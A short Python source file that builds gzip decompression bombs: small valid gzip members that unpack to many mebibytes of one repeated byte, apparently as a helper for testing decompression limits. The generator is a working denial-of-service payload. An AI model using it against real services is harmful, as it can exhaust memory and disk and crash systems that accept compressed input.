"""Gzip members that unpack to far more than they are, made in moments: one packed block is repeated."""

from __future__ import annotations

import struct
import zlib
from functools import cache

BLOCK = 1 << 20


@cache
def gzip_bomb(mebibytes: int, filler: bytes = b"\0", head: bytes = b"", tail: bytes = b"") -> bytes:
    """One member that unpacks to `head`, then so many MiB of one byte, then `tail`.

    Each block ends in a full flush, so none refers to the one before: the packer's state after it is always the same.
    """
    block = filler * BLOCK
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    start = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    one = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    digest = zlib.crc32(head)
    for _ in range(mebibytes):
        digest = zlib.crc32(block, digest)
    length = (len(head) + mebibytes * BLOCK + len(tail)) & 0xFFFFFFFF
    stream = start + one * mebibytes + packer.compress(tail) + packer.flush()
    return b"\x1f\x8b\x08\0\0\0\0\0\2\xff" + stream + struct.pack("<II", zlib.crc32(tail, digest), length)
